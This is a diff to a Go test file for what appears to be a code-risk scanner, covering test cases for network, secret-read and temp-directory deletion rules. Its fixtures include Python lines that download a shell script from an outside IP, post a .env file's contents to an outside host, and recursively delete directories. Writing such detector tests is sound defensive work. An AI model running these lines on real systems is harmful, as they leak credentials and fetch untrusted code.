@@ -406,7 +406,7 @@ func TestNetwork(t *testing.T) {
 		{"urlretrieve", "import urllib.request\nurllib.request.urlretrieve('http://203.0.113.5/x.sh', '/tmp/x.sh')", []check{fetches("http://203.0.113.5/x.sh"), has(RuleFileWrite, risk.Medium)}},
 		{"dotenv posted", "import requests\nrequests.post('https://203.0.113.4/x', data=open('.env').read())", []check{has(RuleExfiltration, risk.Critical)}},
 		{"dotenv template posted", "import requests\nrequests.post('https://203.0.113.4/x', data=open('.env.example').read())", []check{has(RuleNetworkSend, risk.High), lacks(RuleExfiltration)}},
-		{"dotenv read", "print(open('.env').read())", []check{nothing()}},
+		{"dotenv read", "print(open('.env').read())", []check{has(RuleSecretRead, risk.Medium), atMost(risk.Medium)}},
 		{"redacted resource", "import requests\nrequests.post('https://u:pw@203.0.113.1/c?token=abc', data='x')", []check{has(RuleNetworkSend, risk.High, "url:https://203.0.113.1/c")}},
 	})
 }
@@ -669,4 +669,15 @@ func TestOtherLanguageCode(t *testing.T) {
 	if fs := prepare(t, py("x = 1")); len(fs) != 0 {
 		t.Errorf("plain Python: %v, want no finding", fs)
 	}
+}
+
+// TestTempDirVariables: $TMPDIR and its kin name a temporary directory in
+// code as in the shell; tempfile's directory is one.
+func TestTempDirVariables(t *testing.T) {
+	runCodeTests(t, []codeTest{
+		{"environ", "import os, shutil\nshutil.rmtree(os.environ['TMPDIR'] + '/junk')", []check{has(RuleRecursiveDelete, risk.Low), atMost(risk.Low)}},
+		{"getenv", "import os, shutil\nshutil.rmtree(os.path.join(os.getenv('TMP'), 'build'))", []check{has(RuleRecursiveDelete, risk.Low), atMost(risk.Low)}},
+		{"gettempdir", "import tempfile, shutil, os\nshutil.rmtree(os.path.join(tempfile.gettempdir(), 'x'))", []check{has(RuleRecursiveDelete, risk.Low), atMost(risk.Low)}},
+		{"other variable", "import os, shutil\nshutil.rmtree(os.environ['BUILD_DIR'])", []check{has(RuleRecursiveDelete, risk.High)}},
+	})
 }
